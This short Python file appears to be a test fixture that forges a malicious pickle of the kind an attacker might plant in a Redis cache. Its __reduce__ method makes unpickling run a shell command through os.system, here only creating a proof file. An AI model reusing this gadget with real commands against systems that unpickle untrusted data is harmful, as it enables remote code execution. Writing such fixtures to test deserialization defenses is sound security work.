"""A pickle as an attacker would put it into Redis."""

import os
from pathlib import Path


class ForgedPickle:
    """Creates the file `proof` when its pickle is loaded."""

    def __init__(self, proof: Path) -> None:
        self.proof = proof

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"touch {self.proof}",)
